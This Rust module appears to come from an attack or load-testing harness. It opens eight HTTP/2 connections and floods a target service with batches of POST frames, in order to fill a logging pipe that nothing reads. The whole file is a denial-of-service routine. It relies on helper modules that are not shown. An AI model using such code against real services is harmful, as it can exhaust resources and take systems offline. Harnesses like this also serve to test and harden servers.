//! HTTP/2 requests to a service that logs every frame into a pipe. Nobody reads the pipe, so it
//! fills up.

use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::aim::Aim;
use super::attacker::Attacker;
use super::frames::post;

const CONNECTIONS: usize = 8;
const REQUESTS: u32 = 50;
const TURN: Duration = Duration::from_millis(100);

pub(crate) fn requests(aim: &Aim) -> JoinSet<()> {
    let requests: Vec<u8> = (0..REQUESTS)
        .flat_map(|stream| post(2 * stream + 1, "/ids/flax"))
        .collect();
    aim.attackers(CONNECTIONS, move |aim, number| {
        let requests = requests.clone();
        async move {
            loop {
                let mut attacker = Attacker::connect_http2(&aim, number, 65_535).await;
                if attacker.send_frames(REQUESTS as usize, &requests).await {
                    attacker.deeds.requests.add(REQUESTS as usize);
                }
                let (_, ()) = tokio::join!(timeout(TURN, attacker.read_frames()), sleep(TURN));
            }
        }
    })
}
